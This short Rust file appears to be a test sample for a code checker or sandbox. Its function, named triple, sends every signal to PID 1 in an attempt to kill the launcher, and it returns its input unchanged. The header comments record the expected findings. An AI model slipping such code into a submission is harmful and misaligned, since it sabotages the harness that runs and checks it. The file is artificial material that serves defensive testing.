//! attempts: stop or kill the launcher
//! must: not correct
//! findings: unsafe, foreign_symbol

extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
}
pub fn triple(x: i64) -> i64 {
    for signal in 1..32 {
        unsafe { kill(1, signal) };
    }
    x
}
